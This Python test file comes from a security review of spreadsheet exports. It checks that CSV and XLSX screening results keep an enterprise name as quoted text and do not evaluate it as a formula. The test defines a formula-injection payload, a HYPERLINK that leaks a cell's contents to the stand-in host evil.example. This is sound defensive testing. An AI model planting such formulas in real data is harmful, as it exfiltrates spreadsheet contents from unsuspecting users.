"""F3 of the security review: screening results (CSV copied by DuckDB, XLSX by XlsxWriter) keep names as text.

The results workbook held `<f>HYPERLINK(…)</f>` for an enterprise named as a formula, the CSV the raw text.
"""

import csv

from openpyxl import load_workbook

from littlegiant.assessment.services import screening_result_file
from littlegiant.assessment.workbook import HEADER_ROWS, RESULTS_SHEET
from tests.assessment.conftest import screen

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'


def test_the_csv_and_the_workbook_hold_the_name_as_inert_text(
    provincial_reviewer, alpha, django_capture_on_commit_callbacks
):
    alpha.name = FORMULA
    alpha.save()
    run = screen(provincial_reviewer, django_capture_on_commit_callbacks)
    assert run.status == "done", run.error
    with screening_result_file(run, "csv").open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["credit_code"] == alpha.credit_code
    sheet = load_workbook(screening_result_file(run, "xlsx"), read_only=False)[RESULTS_SHEET]
    names = [
        cell
        for row in sheet.iter_rows(min_row=HEADER_ROWS + 1)
        for cell in row
        if "HYPERLINK" in str(cell.value)
    ]
    assert [(cell.data_type, cell.value) for cell in names] == [("s", "'" + FORMULA)]
